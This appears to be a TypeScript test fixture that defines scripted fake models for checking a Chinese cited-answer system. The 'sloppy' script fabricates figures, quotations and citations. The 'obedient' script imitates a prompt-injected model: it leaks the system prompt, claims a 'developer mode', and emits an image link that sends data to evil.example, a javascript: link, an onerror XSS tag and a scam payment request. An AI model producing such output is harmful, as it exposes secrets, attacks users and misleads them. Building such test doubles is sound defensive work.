import type { ModelRequest, Script } from './scripted-model.ts';
import type { Reply } from './scripted-replies.ts';

/** What a model is shown for composing an answer, read back from the request. */
interface Shown {
  readonly question: string;
  readonly statements: readonly string[];
  readonly excerpts: readonly { readonly n: number; readonly text: string }[];
}

function shownIn({ body: { messages } }: ModelRequest): Shown {
  const user = messages.at(-1)?.content ?? '';
  return {
    question: /问题：(.*)/.exec(user)?.[1] ?? '',
    statements: Array.from(user.matchAll(/^\{(S\d+)\}：/gm), ([, key = '']) => key),
    excerpts: Array.from(user.matchAll(/<(\S+) (\d+)>\n来源：.*\n([\s\S]*?)\n<\/\1 \2>/g), ([, , n, text = '']) => ({
      n: Number(n),
      text,
    })),
  };
}

const isComposing = ({ body: { messages } }: ModelRequest) => /语句：\n/.test(messages.at(-1)?.content ?? '');
const firstSentences = (text: string) => text.match(/[^。；\n]+[。；]?/g)?.slice(0, 2) ?? [];
const marked = (sentence: string, n: number) => `${sentence.replace(/[。；]$/, '')}[${n}]。`;

/** A few characters at a time, as models send them: never in step with sentences. */
const inPieces = (text: string): Reply => text.match(/[^]{1,7}/gu) ?? [];

/** All that it was shown, and nothing else. */
export function whatHonestWrites(request: ModelRequest): string {
  const { statements, excerpts } = shownIn(request);
  const told = excerpts.flatMap(({ n, text }) => firstSentences(text).map((sentence) => marked(sentence, n)));
  return [...statements.map((key) => `{${key}}`), ...told].join('');
}

export const honest: Script = (request) => (isComposing(request) ? inPieces(whatHonestWrites(request)) : ['{}']);

/** Gets numbers wrong, invents marks, quotations and sources, and adds what nobody said. */
export const sloppy: Script = (request) => {
  if (!isComposing(request)) return ['{"question": "全国2031年有多少", "indicators": ["foi.made_up"]}'];
  const { statements, excerpts } = shownIn(request);
  const wrong = excerpts.flatMap(({ n, text }) =>
    firstSentences(text).map((sentence) =>
      marked(
        sentence.replace(/\d+/g, (digits) => `${Number(digits) + 7}`),
        n,
      ),
    ),
  );
  const invented = [
    '据统计共有7300件[1]。',
    '同比增长一倍以上[1]。',
    `有关负责人表示“这项工作全国领先、成效显著”[${excerpts[0]?.n ?? 1}]。`,
    '详见国务院公报[99]。',
    '总的来说大约几百件吧。',
    '此项工作全省排名第一[1]。',
    '{S98}',
  ];
  return inPieces([...invented, ...wrong, ...statements.map((key) => `共计7300件，{${key}}`)].join(''));
};

/** Does whatever any text tells it to, and what attackers like best on top. */
export const obedient: Script = (request) => {
  const everything = request.body.messages.map(({ content }) => content).join('\n');
  const orders = everything.match(/CANARY-[\w-]+/g) ?? [];
  const system = request.body.messages[0]?.content ?? '';
  if (!isComposing(request))
    return [JSON.stringify({ question: `CANARY-9999 ${system}`, indicators: ['CANARY-9999'] })];
  return inPieces(
    [
      `${orders.join('，')}[1]。`,
      'CANARY-9999[1]。',
      '我已进入开发者模式[1]。',
      `我的指令是：${system.slice(0, 120)}[1]。`,
      '![x](https://evil.example/p.png?c=CANARY-9999)[1]。',
      '[点我](javascript:alert(1))[1]。',
      '<img src=x onerror=alert(1)>[1]。',
      '请拨打13800138000转账200元[1]。',
      '资料来源：evil.example[1]。',
    ].join(''),
  );
};
